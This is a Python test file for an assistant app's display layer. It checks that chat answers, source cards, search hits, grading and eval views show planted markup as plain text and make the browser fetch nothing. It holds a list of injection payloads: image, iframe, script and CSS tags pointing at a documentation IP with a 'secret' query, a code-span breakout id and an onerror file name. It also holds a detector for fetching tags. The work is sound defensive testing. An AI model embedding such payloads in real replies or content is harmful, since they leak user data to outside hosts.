"""What reaches the screen loads nothing: every kind of resource-loading markup, planted in a
catalog document, a clinical note, a question and a scripted model reply, comes out of each view
function (chat answer streamed and final, source cards, status, search hits, grading, pairwise,
eval cases, knowledge tab) as Markdown/HTML that shows the text and makes the browser fetch
nothing; and under the default `remove` policy no unverified model text is shown while it is
written.

The check renders Markdown with markdown-it (CommonMark, raw HTML on, as the page's renderer
allows it) and parses the HTML, failing on any tag or attribute that fetches a URL."""
from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from agent_world import kbs, make_agent, supported  # noqa: F401 - kbs is a fixture
from assistant.answer import FLAG_TEXT, Answer, Citation
from assistant.llm import FakeLLM
from knowledge.types import Chunk

HOST = "198.51.100.7"  # a documentation address (TEST-NET-2): never a real server
PAYLOADS = {
    "markdown image": f"![x](http://{HOST}/md.png?q=secret)",
    "reference image": f"![x][r]\n\n[r]: http://{HOST}/ref.png",
    "img": f'<img src="http://{HOST}/img.png">',
    "img srcset": f'<img srcset="http://{HOST}/set.png 2x">',
    "iframe": f'<iframe src="http://{HOST}/frame"></iframe>',
    "link": f'<link rel="stylesheet" href="http://{HOST}/s.css">',
    "style import": f"<style>@import url(http://{HOST}/i.css);</style>",
    "style attribute": f'<div style="background:url(http://{HOST}/bg.png)">x</div>',
    "video poster": f'<video poster="http://{HOST}/poster.png"></video>',
    "svg image": f'<svg><image href="http://{HOST}/svg.png"/></svg>',
    "picture source": f'<picture><source srcset="http://{HOST}/pic.png"></picture>',
    "object": f'<object data="http://{HOST}/obj"></object>',
    "script": f'<script src="http://{HOST}/x.js"></script>',
    "entity-spelled URL": "<img src=http:&#47;&#47;198.51.100.7&#47;ent.png>",
    "mermaid fence": f"```mermaid\ngraph TD\nA[x] --> B[y]\nclick A \"http://{HOST}/m\"\n```",
}
# Inline, one line each: what a model reply or a one-line field would carry.
INLINE = " ".join(p.replace("\n", " ") for k, p in PAYLOADS.items() if "\n" not in p)
ALL = "\n\n".join(PAYLOADS.values())
BREAKOUT = f"d9` <img src=http://{HOST}/id.png> `"  # a doc id that closes the `code` span around it


# --- the checker ----------------------------------------------------------------------------------

_FETCHING_TAGS = {"img", "image", "script", "link", "object", "embed", "video", "audio", "source", "track",
                  "picture", "frame", "frameset", "applet", "portal", "base", "feimage"}
_FETCHING_ATTRS = {"src", "srcset", "poster", "data", "background", "lowsrc", "dynsrc", "ping", "codebase",
                   "archive", "action", "formaction", "manifest"}
_CSS_FETCH = re.compile(r"(?i)url\s*\(|@import|image-set\s*\(")


class _Fetches(HTMLParser):
    """Collects every construct of an HTML fragment that makes a browser fetch a URL, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        if tag in _FETCHING_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name in _FETCHING_ATTRS:
                self.found.append(f"<{tag} {name}>")
            elif name in ("href", "xlink:href") and tag != "a" and not value.startswith("#"):
                self.found.append(f"<{tag} {name}>")
            elif name == "href" and not re.match(r"(?i)\s*(https?:|mailto:|#)", value):
                self.found.append(f"<a href={value!r}>")  # javascript:, data: …
            elif name == "style" and _CSS_FETCH.search(value):
                self.found.append(f"<{tag} style=url()>")
            elif name == "srcdoc":
                self.found += fetches_in_html(value)  # a framed document: what it loads counts too
            elif name == "http-equiv" and value.lower() == "refresh":
                self.found.append("<meta refresh>")
            elif name == "class" and "language-mermaid" in value:
                self.found.append("mermaid diagram")  # the page draws it, with its links and images
        if tag == "style":
            self._in_style = True

    def handle_endtag(self, tag):
        if tag == "style":
            self._in_style = False

    def handle_data(self, data):
        if self._in_style:
            if _CSS_FETCH.search(data):
                self.found.append("<style> url()/@import")
        else:
            self.text.append(data)


def _parse(html: str) -> _Fetches:
    parser = _Fetches()
    parser.feed(html)
    parser.close()
    return parser


def fetches_in_html(html: str) -> list[str]:
    return _parse(html).found


def render_markdown(markdown: str) -> str:
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


def fetches_in_markdown(markdown: str) -> list[str]:
    return fetches_in_html(render_markdown(markdown))


def visible_text(markdown: str) -> str:
    return " ".join("".join(_parse(render_markdown(markdown)).text).split())


def assert_loads_nothing(markdown: str = "", html: str = "") -> None:
    found = fetches_in_markdown(markdown) + fetches_in_html(html)
    assert not found, f"would load: {found}"


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_the_checker_sees_every_raw_payload(name):
    """Each payload, shown raw, does load something: the checks below can fail."""
    assert fetches_in_markdown(PAYLOADS[name]), name
    assert fetches_in_markdown(f"`{BREAKOUT}`")


# --- the escaping functions -----------------------------------------------------------------------

@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_markdown_text_shows_the_text_and_loads_nothing(name):
    from knowledge.safe_text import markdown_text

    shown = markdown_text(PAYLOADS[name])
    assert_loads_nothing(shown)
    assert visible_text(shown) == " ".join(PAYLOADS[name].split())  # the same words, as text
    assert_loads_nothing(f"**Question:** {markdown_text(ALL)}\n\n> {markdown_text(INLINE)}")


def test_markdown_text_keeps_its_escapes_when_joined_or_indented():
    from knowledge.safe_text import markdown_text

    for tricky in ("\\![x](http://h/a.png)", "!\\[x](http://h/a.png)", "    <img src=x>\n\n\tcode",
                   "&lt;img src=x&gt;", "[1]\n[1]: http://h/a.png\n![x][1]"):
        shown = markdown_text(tricky)
        assert_loads_nothing(shown)
        assert visible_text(shown) == " ".join(tricky.split())
    assert_loads_nothing(markdown_text("!") + markdown_text("[x](http://h/a.png)"))


def test_markdown_code_cannot_be_closed_early():
    from knowledge.safe_text import markdown_code

    for text in (BREAKOUT, "``a``", "`x` y", f"a\n\n![x](http://{HOST}/nl.png)"):
        shown = markdown_code(text)
        assert_loads_nothing(f"`{shown}` and {shown} — after")
        assert visible_text(f"id {shown} end") == f"id {' '.join(text.split())} end"
    assert markdown_code("  ") == ""


def test_html_text_escapes_everything():
    from knowledge.safe_text import html_text

    assert_loads_nothing(html=f'<div title="{html_text(ALL)}">{html_text(ALL)}</div>')
    assert html_text('"<&>') == "&quot;&lt;&amp;&gt;"


# --- chat -------------------------------------------------------------------------------------------

def _planted_answer(*, refused: bool = False) -> Answer:
    flagged = f"It won five Oscars {INLINE}. {FLAG_TEXT}"
    text = f"Deep Blue is about the ocean [1]. {INLINE} [2]. {flagged}"
    chunks = [Chunk("c1", "d1", f"Deep Blue is about the ocean. {ALL}", (0, 60), {"title": INLINE, "type": "film"}),
              Chunk("c2", BREAKOUT, f"note text {ALL}", (0, 40), {"note_type": INLINE, "patient_id": INLINE})]
    citations = [] if refused else [Citation(1, "d1", "c1", (10, 50), 0.9), Citation(2, BREAKOUT, "c2", (0, 30), None)]
    trace = {"flagged": [flagged], "removed": [INLINE], "refusal_reason": INLINE}
    return Answer(INLINE if refused else text, citations, chunks, [], refused, trace, {"total_s": 1.0})


@pytest.mark.parametrize("refused", [False, True])
def test_answer_status_and_cards_load_nothing(refused):
    from assistant.chat_view import answer_markdown, answer_status, cards_html, source_cards

    answer = _planted_answer(refused=refused)
    assert_loads_nothing(answer_markdown(answer))
    assert_loads_nothing(answer_status(answer))
    assert_loads_nothing(html=cards_html(source_cards(answer)))
    if not refused:
        shown = visible_text(answer_markdown(answer))
        assert "⚠ It won five Oscars" in shown and FLAG_TEXT not in shown and "1 sentence removed" in shown


def _turns(kbs, policy, question):  # noqa: F811
    reply = f"Deep Blue is about the ocean [1]. {INLINE} [1]."
    agent, _ = make_agent(kbs, FakeLLM(default=reply, logprob_tables=[supported()] * 400), role="user",
                          collection="catalog", policy=policy, max_tokens=4096)
    from assistant.chat_session import chat_turn

    # the session's message list is updated in place: copy each step's as it was shown
    return [([dict(m) for m in messages], cards, status, session)
            for messages, cards, status, session in chat_turn(agent, None, question, "catalog", log=False)]


@pytest.mark.parametrize("policy", ["flag", "remove"])
def test_chat_turn_loads_nothing_while_streaming_or_after(kbs, policy):  # noqa: F811
    updates = _turns(kbs, policy, f"documentaries about the ocean {INLINE}")
    for messages, cards, status, _ in updates:
        for message in messages:
            assert_loads_nothing(message["content"])
        assert_loads_nothing(status, html=cards)
    assert "Deep Blue is about the ocean" in visible_text(updates[-1][0][-1]["content"])


def test_remove_policy_shows_no_unverified_text_while_writing(kbs):  # noqa: F811
    from assistant.chat_view import WRITING

    updates = _turns(kbs, "remove", "documentaries about the ocean")
    writing = [u[0][-1]["content"] for u in updates[:-1]]
    # first the neutral line with the retrieved sources' cards, before any model text
    assert writing[0] == WRITING and 'id="source-1"' in updates[0][1]
    # then only what the verifier passed, never the growing raw reply: the payload sentence
    # the verifier removes (no content word of it is in the source) never appears, even briefly
    assert set(writing) == {WRITING, "Deep Blue is about the ocean \\[1\\].\n\n" + WRITING}
    assert "Deep Blue is about the ocean" in updates[-1][0][-1]["content"]


def test_flag_policy_still_previews_the_reply(kbs):  # noqa: F811
    updates = _turns(kbs, "flag", "documentaries about the ocean")
    assert any(u[0][-1]["content"].startswith("Deep Blue") for u in updates[:-1])


def test_the_app_and_serve_default_to_remove():
    import app
    import cli

    assert app.AppConfig().policy == "remove"
    assert cli.build_parser().parse_args(["serve"]).policy == "remove"


# --- search, grading, evals, knowledge ----------------------------------------------------------------

def test_search_hits_load_nothing(tmp_path):
    import app
    from fakes import HashEmbedder
    from knowledge.config import KnowledgeConfig
    from knowledge.index import KnowledgeBase
    from knowledge.ingest import ingest

    src = tmp_path / "planted.jsonl"
    src.write_text(json.dumps({"id": "x1", "title": INLINE, "type": "film", "year": 2020, "genres": ["drama"],
                               "description": f"A film about the ocean. {ALL}"}) + "\n")
    kb = KnowledgeBase("catalog", KnowledgeConfig(), embedder=HashEmbedder(), root=tmp_path / "index")
    try:
        ingest(kb, [src], progress=False)
        services = app.Services(app.AppConfig(), llm=FakeLLM(default="x"), open_kb=lambda c: kb)
        out = app.search_handler(services, "user", "ocean film", "catalog", "bm25", "")
        assert "x1" in out
        assert_loads_nothing(out)
    finally:
        kb.close()


def test_grading_and_pairwise_views_load_nothing(tmp_path):
    from evals.grading.records import Item, Passage
    from evals.grading.store import GradeStore
    from evals.grading.views import grading_load, pairwise_next

    store = GradeStore(tmp_path / "grades.sqlite")
    for system in ("base", "tuned"):
        store.add_item(Item(question=f"Ocean documentaries? {INLINE}", answer=f"{system}: {ALL}", collection="catalog",
                            system=system, contexts=(Passage(1, BREAKOUT, "d9#0", ALL),), cited_ids=(BREAKOUT,)))
    _, shown, sources = grading_load(store, "expert", "eve", None)
    assert "Ocean documentaries?" in shown and "d9" in sources
    assert_loads_nothing(shown + "\n\n" + sources)
    _, question, _, _ = pairwise_next(store, "expert", "eve")
    assert "Ocean documentaries?" in question
    assert_loads_nothing(question)


def test_eval_case_view_loads_nothing(tmp_path):
    from evals import dashboard

    run = tmp_path / "runs" / "planted"
    run.mkdir(parents=True)
    record = {"key": "g.jsonl::c1", "status": "ok", "inputs": {"question": ALL, "collection": "catalog"},
              "answer": {"text": ALL}, "metrics": {"rougeL_f": 0.5, INLINE: INLINE},
              "contexts": [{"n": 1, "doc_id": BREAKOUT, "text": ALL}], "judge": {"reason": ALL}, "error": ALL}
    (run / "results.jsonl").write_text(json.dumps(record) + "\n")
    detail = dashboard.case_detail("admin", "runs/planted", "g.jsonl::c1", root=tmp_path)
    assert "**Question:**" in detail
    assert_loads_nothing(detail)
    assert_loads_nothing(dashboard.case_detail("admin", "runs/planted", INLINE, root=tmp_path))


def test_knowledge_tab_markdown_loads_nothing():
    from knowledge.admin import DeleteResult, DocumentListing, FileResult, SkippedLine, UploadReport

    name = f"x<img src=x onerror=1>![y](http:{HOST}).jsonl"
    report = UploadReport("catalog", (FileResult(name, "/u/x.jsonl", 1, 0, 0, 0, 1, 2, (SkippedLine(3, ALL),)),), 0.1)
    assert_loads_nothing(report.to_markdown())
    assert_loads_nothing(DeleteResult("catalog", (INLINE,), (INLINE,), 1).to_markdown())
    assert_loads_nothing(DocumentListing("catalog", INLINE, (), 0).caption())
